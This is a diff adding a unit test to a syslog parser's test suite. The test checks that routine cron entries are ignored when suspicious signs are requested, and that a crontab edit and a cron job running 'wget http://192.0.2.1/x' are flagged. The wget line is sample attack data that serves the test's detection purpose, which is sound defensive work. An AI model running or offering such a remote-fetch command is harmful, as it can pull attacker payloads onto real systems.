@@ -91,6 +91,13 @@ describe('what lines say', () => {
 			expect(readText(rfc3164, `Jan 18 08:30:20 h ${text}\n`, { wants }).events[0]).toMatchObject(wanted);
 		}
 	});
+
+	test('what cron ran is passed over where signs are asked for, but for an edited table and a literal of an attack', () => {
+		const lines = ['CRON[1]: (root) CMD (run-parts /etc/cron.hourly)', 'CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', 'crontab[2]: (eve) REPLACE (eve)', 'CRON[1]: (eve) CMD (wget http://192.0.2.1/x)'];
+		const { events, tally } = readText(rfc3164, lines.map(line => `Jan 18 08:30:20 h ${line}\n`).join(''), { wants: 'signs' });
+		expect(events.map(({ words }) => words)).toEqual(['crontab: (eve) REPLACE (eve)', 'CRON: (eve) CMD (wget http://192.0.2.1/x)']);
+		expect(tally.records).toBe(4);
+	});
 });
 
 describe('bad input', () => {
